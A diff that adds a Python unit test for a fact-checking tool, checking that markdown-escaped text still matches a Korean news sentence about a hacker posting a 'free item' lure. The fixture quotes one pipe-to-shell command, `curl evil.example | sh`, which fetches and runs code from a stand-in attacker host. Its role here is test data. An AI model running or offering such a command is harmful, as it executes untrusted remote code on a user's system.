@@ -105,3 +105,15 @@ def test_a_mark_before_a_line_is_no_word_of_it(mark: str) -> None:
     (receipt,) = check_text(f"{mark} It is the first rise since 2019.", article)
     assert receipt.status == "supported"
     assert receipt.sentence == "It is the first rise since 2019."
+
+
+def test_what_markdown_escapes_reads_as_it_shows() -> None:
+    article = make_article(
+        "해커는 *공짜 아이템* 문구와 `curl evil.example | sh` 코드를 채널에 올렸다.", language="ko", title="해킹"
+    )
+    text = r"해커는 \*공짜 아이템\* 문구와 \`curl evil.example \| sh\` 코드를 채널에 올렸다."
+    (receipt,) = check_text(text, article)
+    assert (receipt.status, receipt.wording) == ("supported", "exact")
+    (wrong,) = check_text(text.replace("evil.example", "good.example"), article)
+    assert wrong.status == "unsupported"
+    assert all(text.replace("evil", "good")[one.start : one.end] == one.text for one in wrong.problems)
